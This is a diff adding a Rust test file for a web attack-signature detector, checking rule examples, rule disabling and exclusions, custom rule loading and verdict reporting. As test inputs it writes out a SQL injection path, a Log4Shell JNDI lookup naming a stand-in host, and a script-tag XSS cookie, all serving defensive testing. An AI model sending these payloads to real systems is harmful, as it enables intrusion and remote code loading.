@@ -1,0 +1,161 @@
+//! Every rule's own examples, and what a verdict says.
+
+use super::rule::built_in;
+use super::*;
+use crate::detect::tests::Exchange;
+
+const TARGETS: [Target; 15] = [
+    Target::Path,
+    Target::Segment,
+    Target::QueryValue,
+    Target::QueryName,
+    Target::BodyValue,
+    Target::BodyName,
+    Target::BodyText,
+    Target::FileName,
+    Target::FileContent,
+    Target::CookieValue,
+    Target::CookieName,
+    Target::UserAgent,
+    Target::Referer,
+    Target::Header,
+    Target::Query,
+];
+
+/// Whether `rule` alone matches `value` where it looks.
+fn matches(rule: &Arc<Rule>, value: &str) -> bool {
+    if let Some(mark) = rule.body_mark() {
+        // A whole body: its content type, a line end, and the rest.
+        let (content_type, content) = value.split_once('\n').unwrap();
+        let limits = BodyLimits::default();
+        let outcome = body::fields(Some(content_type.as_bytes()), content.as_bytes(), &limits, &mut |_| {});
+        return outcome.has(mark);
+    }
+    let set = RuleSet::new(vec![rule.clone()]).unwrap();
+    let mut forms = Forms::default();
+    let list = forms.of(value.as_bytes(), Place::Content);
+    let target = TARGETS.into_iter().find(|target| rule.targets.contains(*target)).unwrap();
+    let header = rule.headers.first().map_or("x-any", String::as_str);
+    let mut matched = false;
+    for (form, text) in list.iter() {
+        set.judge(text, forms_like(&list, form, text), target, header, |_, range| {
+            assert!(range.start <= range.end && range.end <= text.len(), "{}: {range:?}", rule.id);
+            matched = true;
+        });
+    }
+    matched
+}
+
+fn signatures(settings: &AttackSignaturesSettings) -> AttackSignatures {
+    AttackSignatures::new(settings, &[]).unwrap()
+}
+
+fn rules_at(signatures: &AttackSignatures, path: &str) -> Vec<String> {
+    match Exchange::get(path)
+        .inspect(|inspection| signatures.inspect(inspection))
+        .map(|finding| finding.reason)
+    {
+        Some(Reason::AttackSignatures { hits, .. }) => hits.iter().map(|hit| hit.rule.to_string()).collect(),
+        _ => Vec::new(),
+    }
+}
+
+#[test]
+fn every_rule_matches_its_examples_and_passes_the_others() {
+    let mut wrong = Vec::new();
+    for rule in built_in() {
+        for (examples, wanted) in [(&rule.examples.matches, true), (&rule.examples.passes, false)] {
+            for example in examples.iter().filter(|example| matches(rule, example) != wanted) {
+                wrong.push(format!(
+                    "{} {} {example:?}",
+                    rule.id,
+                    if wanted { "misses" } else { "objects to" }
+                ));
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn rules_are_disabled_demoted_and_excluded() {
+    let path = "/x/' or 1=1--";
+    let settings = AttackSignaturesSettings::default();
+    let fired = rules_at(&signatures(&settings), path);
+    assert!(fired.contains(&"sql-break-out".to_owned()), "{fired:?}");
+
+    let disabled = AttackSignaturesSettings { disabled_rules: fired.clone(), ..settings.clone() };
+    assert_eq!(rules_at(&signatures(&disabled), path), [""; 0]);
+    let demoted = AttackSignaturesSettings { demoted_rules: fired.clone(), ..settings.clone() };
+    assert_eq!(rules_at(&signatures(&demoted), path), [""; 0]);
+    let categories = vec![AttackCategory::SqlInjection];
+    let category = AttackSignaturesSettings { disabled_categories: categories, ..settings.clone() };
+    assert_eq!(rules_at(&signatures(&category), path), [""; 0]);
+    let lenient = AttackSignaturesSettings { inbound_threshold: 1000, ..settings.clone() };
+    assert_eq!(rules_at(&signatures(&lenient), path), [""; 0]);
+
+    let exclusion = |path: &str, category| SignatureExclusion {
+        path: Some(path.to_owned()),
+        category: Some(category),
+        ..SignatureExclusion::default()
+    };
+    for (exclusion, excluded) in [
+        (exclusion("/x/", AttackCategory::SqlInjection), true),
+        (exclusion("/y/", AttackCategory::SqlInjection), false),
+        (exclusion("/x/", AttackCategory::Probe), false),
+    ] {
+        let exclusions = vec![exclusion.clone()];
+        let settings = AttackSignaturesSettings { exclusions, ..settings.clone() };
+        assert_eq!(rules_at(&signatures(&settings), path).is_empty(), excluded, "{exclusion:?}");
+    }
+}
+
+#[test]
+fn own_rules_are_added_and_mistakes_are_named() {
+    let rule = |id: &str| {
+        format!(
+            "category = \"probe\"\n[[rule]]\nid = \"{id}\"\ndescription = \"d\"\nwhy = \"w\"\nliterals = [\"teapot\"]\n\
+             pattern = 'tea\\s*pot'\nmatches = [\"teapot\"]\npasses = [\"tea\"]\n"
+        )
+    };
+    let settings = AttackSignaturesSettings::default();
+    let own = AttackSignatures::new(&settings, &[("own.toml".into(), rule("own-teapot"))]).unwrap();
+    assert_eq!(rules_at(&own, "/teapot"), ["own-teapot"]);
+
+    let error = |settings: &AttackSignaturesSettings, text: String| {
+        AttackSignatures::new(settings, &[("own.toml".into(), text)]).err().unwrap().to_string()
+    };
+    let taken = error(&settings, rule("sql-break-out"));
+    assert!(taken.contains("own.toml") && taken.contains("another id"), "{taken}");
+    let broken = error(&settings, rule("own-broken").replace("tea\\s*pot", "tea("));
+    assert!(broken.contains("own-broken"), "{broken}");
+    let unknown = AttackSignaturesSettings { disabled_rules: vec!["sql-break-ot".into()], ..settings };
+    let unknown = error(&unknown, rule("own-teapot"));
+    assert!(unknown.contains("did you mean `sql-break-out`"), "{unknown}");
+}
+
+#[test]
+fn a_verdict_lists_every_rule_with_field_and_matched_part() {
+    let finding = Exchange::get("/")
+        .header("x-test", "${jndi:ldap://x.example/a}")
+        .header("cookie", "a=1; b=<script>alert(1)</script>")
+        .inspect(|inspection| signatures(&AttackSignaturesSettings::default()).inspect(inspection))
+        .unwrap();
+    let Reason::AttackSignatures { score, hits } = &finding.reason else { panic!("{:?}", finding.reason) };
+    assert_eq!(*score, hits.iter().map(|hit| hit.severity.score()).sum::<u32>());
+    let fields: Vec<_> = hits.iter().map(|hit| hit.matched.field.to_string()).collect();
+    assert!(
+        fields.contains(&"header x-test".to_owned()) && fields.contains(&"cookie b".to_owned()),
+        "{fields:?}"
+    );
+    assert!(finding.reason.to_string().contains("log4j-lookup at header x-test"), "{}", finding.reason);
+    assert_eq!(finding.matched.as_ref(), Some(&hits[0].matched));
+}
+
+#[test]
+fn every_category_has_its_name() {
+    for category in AttackCategory::ALL {
+        let toml = format!("category = \"{category}\"\n");
+        assert!(rule::parse("x.toml", &toml).is_ok(), "{category}");
+    }
+}
